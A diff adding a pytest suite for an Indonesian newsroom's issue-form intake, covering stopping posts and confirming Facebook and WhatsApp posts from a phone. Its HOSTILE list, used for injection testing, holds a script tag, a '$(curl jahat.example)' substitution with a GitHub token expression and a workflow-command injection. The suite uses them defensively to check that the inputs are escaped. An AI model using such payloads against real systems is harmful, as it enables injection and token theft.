@@ -1,0 +1,187 @@
+"""forms-reach-the-ledger: on a phone, somebody stops posting, or says that a post was made."""
+
+import re
+from collections.abc import Mapping
+
+import pytest
+
+from pipeline.core.findings import Blocked
+from pipeline.core.posting import Act, ActKind
+from pipeline.desk import World as Gathered
+from pipeline.desk import gather
+from pipeline.intake import FORMS, intake_at
+from pipeline.overview import plan_ahead
+from tests.forge_office import MACHINE
+from tests.stories.forms.test_a_form_becomes_a_proposal import RIGHTS, fill, run
+from tests.stories.office.conftest import SITE, item
+from tests.stories.proposals.conftest import Newsroom, newsroom
+
+__all__ = ["newsroom"]  # the same office, with its forge
+ID = "2026-11-hak-atas-informasi"
+POST = "https://www.facebook.com/jdihpinrang/posts/123456"
+
+
+@pytest.fixture
+def room(newsroom: Newsroom) -> Newsroom:
+    """With one approved item, handed over for two channels."""
+    newsroom.world.approve({f"content/konten/{ID}/index.md": item()})
+    newsroom.world.send()
+    handed = [
+        Act(
+            kind=ActKind.HANDED_OVER,
+            item=ID,
+            revision=0,
+            channel=channel,
+            at=newsroom.world.now,
+            actor="mesin",
+        )
+        for channel in ("facebook", "whatsapp")
+    ]
+    gathered(newsroom).ledger.write(handed)
+    return newsroom
+
+
+def gathered(room: Newsroom) -> Gathered:
+    return gather(room.desk(), room.world.repository(), room.folder / "read", fetch=True)
+
+
+def acts(room: Newsroom, *kinds: ActKind) -> list[Act]:
+    return [act for act in gathered(room).acts if act.kind in kinds]
+
+
+def owed(room: Newsroom) -> set[str]:
+    return {one.promise.channel for one in plan_ahead(room.desk(), gathered(room)).owed}
+
+
+def answer(room: Newsroom, number: int) -> str:
+    """What a person reads below the form."""
+    return re.sub(r"\\(?=\W)", "", room.remark(number).partition("\n")[2])
+
+
+def confirm(item: str, channel: str, url: str = "") -> Mapping[str, str]:
+    return {"Konten": item, "Kanal": channel, "Tautan unggahan": url}
+
+
+def test_stop_from_a_phone(room: Newsroom) -> None:
+    """The Pengelola may, too; from that moment nothing is owed, and he reads how to go on."""
+    before = owed(room)
+    number = fill(room, "berhenti", "putra", {"Sebab": "Lambang yang salah"})
+    (act,) = acts(room, ActKind.STOP)
+    told = answer(room, number)
+
+    assert told.startswith("**Unggahan dihentikan.** Semua kanal dihentikan Putra Pengelola, ")
+    assert "Melanjutkan: usulkan baris «dilanjutkan: [2026-11-23-" in told
+    assert (act.actor, act.note, act.url) == (
+        "Putra Pengelola",
+        "Lambang yang salah",
+        f"https://github.example/kpu/jdih/issues/{number}",
+    )
+    assert not room.office.talks[number].open
+    assert (before, owed(room)) == ({"mastodon"}, set())
+
+
+def test_stop_of_one_channel_by_the_name_people_read(room: Newsroom) -> None:
+    """What stands on the phone is "Mastodon". A slip is told, stops nothing, and can be mended."""
+    number = fill(room, "berhenti", "sari", {"Kanal yang dihentikan": "mastodn"})
+    assert "«mastodn» tidak ada; pilih salah satu: mastodon, facebook, whatsapp." in answer(
+        room, number
+    )
+    assert acts(room, ActKind.STOP) == [] and room.office.talks[number].open
+
+    talk = room.office.talks[number]
+    talk.body = talk.body.replace("mastodn", "Mastodon")
+    run(room, number)
+
+    assert [act.extra["stopped"] for act in acts(room, ActKind.STOP)] == ["mastodon"]
+    assert not talk.open
+
+
+def test_confirmation_from_a_phone(room: Newsroom) -> None:
+    """The address of the item's page will do for its name; WhatsApp needs no link."""
+    posted = fill(room, "konfirmasi", "sari", confirm(ID, "Facebook", f"{POST}?mibextid=x"))
+    page = f"{SITE}konten/{ID}/"
+    shared = fill(room, "konfirmasi", "sari", confirm(page, "whatsapp"))
+    found = {(act.channel, act.actor, act.url) for act in acts(room, ActKind.CONFIRMED)}
+
+    assert answer(room, posted) == f"**Tercatat:** {ID} di Facebook, oleh Sari Sekretaris."
+    assert answer(room, shared) == f"**Tercatat:** {ID} di WhatsApp, oleh Sari Sekretaris."
+    assert found == {
+        ("facebook", "Sari Sekretaris", POST),
+        ("whatsapp", "Sari Sekretaris", ""),
+    }
+
+
+def test_same_confirmation_twice_is_one(room: Newsroom) -> None:
+    """The run that recorded it died before it could answer: the next one answers the same."""
+    number = fill(room, "konfirmasi", "sari", confirm(ID, "facebook", POST))
+    room.office.said.clear()
+    room.office.talks[number].open = True
+    run(room, number)
+
+    assert answer(room, number).startswith("**Tercatat:** ")
+    assert len(acts(room, ActKind.CONFIRMED)) == 1
+
+
+@pytest.mark.parametrize(
+    ("told", "wrong"),
+    [
+        (confirm(ID, "facebook", "https://x.com/jdih/status/1"), "bukan unggahan Facebook"),
+        (confirm("2026-11-lain", "facebook", POST), "2026-11-lain belum pernah diserahkan"),
+        (confirm(ID, "myspace", POST), "Kanal: «myspace» tidak ada; pilih salah satu: "),
+        (confirm(ID, "facebook"), "tambahkan alamat unggahannya"),
+    ],
+)
+def test_confirmation_that_cannot_be_true(
+    room: Newsroom, told: Mapping[str, str], wrong: str
+) -> None:
+    """It is said what is wrong; the form stays open and nothing is recorded."""
+    number = fill(room, "konfirmasi", "sari", told)
+
+    assert wrong in answer(room, number)
+    assert room.office.talks[number].open and acts(room, ActKind.CONFIRMED) == []
+
+
+@pytest.mark.parametrize("kind", ["berhenti", "konfirmasi"])
+def test_anybody_elses_form_is_answered_politely(room: Newsroom, kind: str) -> None:
+    """The whole internet may open an issue: nothing is done, and the answer names who may."""
+    room.office.account("orang-luar", "Orang Luar", write=False)
+    number = fill(room, kind, "orang-luar", confirm(ID, "facebook", POST))
+    told = answer(room, number)
+
+    assert told.startswith("Terima kasih. ") and "Kartini Ketua (Pemimpin Redaksi)" in told
+    assert acts(room, ActKind.STOP, ActKind.CONFIRMED) == []
+    assert not room.office.talks[number].open
+
+
+HOSTILE = [
+    "@kpu/pemred ![x](https://jahat.example/x.png) <script>alert(1)</script>",
+    "$(curl jahat.example) `id` ${{ github.token }}",
+    "semua\n\n### Kanal\n\nfacebook\n\n### Tautan unggahan\n\nhttps://jahat.example",
+    "::set-output name=x::y \u202e\x00",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_hostile_answers_are_words(room: Newsroom, text: str) -> None:
+    """Markup, shell, expressions and headings in an answer are shown as they are, or refused."""
+    number = fill(room, "konfirmasi", "sari", confirm(text, text, text))
+    shown = room.remark(number).partition("\n")[2].partition("\n\nTekan ")[0]
+
+    assert acts(room, ActKind.CONFIRMED) == []
+    assert not re.search(r"(?<!\\)[<@!`$#]|\]\(|:(?=//)", shown)
+
+
+def test_trouble_is_told_and_the_form_stays(room: Newsroom) -> None:
+    """The ledger cannot be written: the person reads it below the form, and nothing is closed."""
+    headings = FORMS["berhenti"].headings
+    body = "\n\n".join(f"### {name}\n\n_No response_" for name in headings)
+    number = room.office.open_issue("sari", "Formulir", body, ["berhenti"]).number
+    hook = room.world.origin / "hooks" / "pre-receive"
+    hook.parent.mkdir(exist_ok=True)
+    hook.write_text("#!/bin/sh\nexit 1\n")
+    hook.chmod(0o755)
+
+    with pytest.raises(Blocked):
+        intake_at(room.desk(), room.server.forge(MACHINE, *RIGHTS), number)
+    assert answer(room, number).startswith("Formulir ini belum dikerjakan, bukan karena isiannya: ")
+    assert room.office.talks[number].open
